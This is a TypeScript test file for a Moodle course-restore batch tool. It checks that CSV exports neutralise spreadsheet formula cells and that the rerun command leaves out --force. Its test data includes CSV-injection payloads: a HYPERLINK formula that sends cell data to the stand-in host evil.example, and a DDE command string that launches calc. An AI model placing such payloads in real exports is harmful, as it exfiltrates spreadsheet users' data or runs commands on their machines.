import { parse } from 'csv-parse/sync';
import { expect, test } from '@playwright/test';
import { parseCourseList } from '../../batch/course-list.js';
import { csvCell } from '../../batch/csv-cell.js';
import type { BatchPlan } from '../../batch/plan.js';
import type { RunPageRow } from '../../batch/run-page/read-run.js';
import { rerunCommand, rerunCsv } from '../../batch/run-page/rerun.js';
import { toCsv, type SummaryRow } from '../../batch/summary.js';

// What a spreadsheet would run: each starts with a character Excel, LibreOffice or Sheets read as a formula.
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
];

function rowsOf(csv: string): string[][] {
  const rows: string[][] = parse(csv);
  return rows;
}

test('a cell that starts with =, +, -, @, a tab or a carriage return gets a leading apostrophe', () => {
  for (const formula of FORMULAS) {
    const cell = rowsOf(csvCell(formula))[0]?.[0];
    expect(cell, JSON.stringify(formula)).toBe(`'${formula}`);
  }
  expect(csvCell('MATHS101')).toBe('MATHS101');
  expect(csvCell('a=b, c')).toBe('"a=b, c"');
  expect(csvCell('Anglais; groupe A')).toBe('"Anglais; groupe A"');
  expect(csvCell(null)).toBe('');
  expect(csvCell(12)).toBe('12');
});

function summaryRow(overrides: Partial<SummaryRow>): SummaryRow {
  return {
    line: 2,
    course: 'ANG-EC1',
    status: 'refused',
    step: 'schema',
    reason: "the restore would remove other people's enrolments",
    courseEmptied: false,
    vertCourseId: 6,
    vertCourseUrl: 'http://127.0.0.1:8082/course/view.php?id=6',
    backupFile: '',
    accessLost: '',
    leftBehind: '',
    attempts: 1,
    startedAt: '2026-12-04T19:59:49.216Z',
    endedAt: '2026-12-04T20:00:09.414Z',
    evidence: '/runs/batch/courses/x',
    supportMessage: '',
    ...overrides,
  };
}

test('summary.csv neutralises formula cells in course names, file names and reasons', () => {
  const csv = toCsv([
    summaryRow({ course: FORMULAS[0] ?? '', reason: FORMULAS[1] ?? '', backupFile: '@backup.mbz' }),
    summaryRow({ line: 3, course: '-MINUS', reason: '\t=1+1' }),
  ]);
  const [header, first, second] = rowsOf(csv);
  const column = (name: string) => header?.indexOf(name) ?? -1;
  expect(first?.[column('course')]).toBe(`'${FORMULAS[0] ?? ''}`);
  expect(first?.[column('reason')]).toBe(`'${FORMULAS[1] ?? ''}`);
  expect(first?.[column('backupFile')]).toBe("'@backup.mbz");
  expect(second?.[column('course')]).toBe("'-MINUS");
  expect(second?.[column('reason')]).toBe("'\t=1+1");
  // Nothing else changes: numbers, URLs and dates as they were.
  expect(first?.[column('line')]).toBe('2');
  expect(first?.[column('vertCourseUrl')]).toBe('http://127.0.0.1:8082/course/view.php?id=6');
  for (const row of [first, second])
    for (const cell of row ?? []) expect(cell, 'a cell left as a formula').not.toMatch(/^[=+\-@\t\r]/);
});

const plan: BatchPlan = {
  runId: 'batch-x',
  runDir: '/runs/batch-x',
  baseDir: '/home/admin/restore night',
  courseList: '/home/admin/courses.csv',
  vertUrl: 'http://127.0.0.1:8082',
  courses: [
    { line: 2, target: { kind: 'shortname', shortname: '=EVIL()' }, bleuShortname: '+BLEU' },
    { line: 3, target: { kind: 'id', id: 1234 } },
    { line: 4, target: { kind: 'shortname', shortname: 'DONE' } },
    { line: 5, target: { kind: 'shortname', shortname: 'EMPTIED' } },
  ],
  options: { dryRun: false, force: true, allowEnrolmentLoss: true, allowStale: false },
  runner: { workers: 1, retries: 1 },
};

function pageRow(line: number, category: string, reason: string): RunPageRow {
  return {
    line,
    course: `course ${line}`,
    status: category === 'emptied' ? 'failed' : category,
    category,
    step: category === 'restored' ? '' : 'schema',
    reason,
    vertCourseUrl: '',
    bleuIsSearch: false,
    backupFile: '',
    courseEmptied: category === 'emptied',
    attempts: 1,
  };
}

test('the rerun list holds the refused and failed as the list named them, neutralised, and reads back as it was', () => {
  const csv = rerunCsv(plan, [
    pageRow(2, 'refused', '@mention in a forum name'),
    pageRow(3, 'failed', 'Moodle error: -1'),
    pageRow(4, 'restored', ''),
    pageRow(5, 'emptied', 'restore not confirmed'),
  ]);
  const cells = rowsOf(csv).slice(1);
  expect(cells.map((row) => row[0])).toEqual(["'=EVIL()", '1234']);
  expect(cells[0]?.[1]).toBe("'+BLEU");
  for (const row of cells)
    for (const cell of row) expect(cell, 'a cell left as a formula').not.toMatch(/^[=+\-@\t\r]/);
  // The course-list parser reads our own neutralised cells back as the texts they stand for.
  expect(parseCourseList(csv)).toEqual([
    {
      line: 2,
      target: { kind: 'shortname', shortname: '=EVIL()' },
      bleuShortname: '+BLEU',
      note: 'refused (schema): @mention in a forum name',
    },
    { line: 3, target: { kind: 'id', id: 1234 }, note: 'failed (schema): Moodle error: -1' },
  ]);
});

test('the rerun command starts from the batch folder with its options, never --force', () => {
  expect(rerunCommand(plan, '/runs/batch-x/rerun.csv')).toBe(
    "cd '/home/admin/restore night' && npx ecampus-restore batch /runs/batch-x/rerun.csv --allow-enrolment-loss",
  );
});
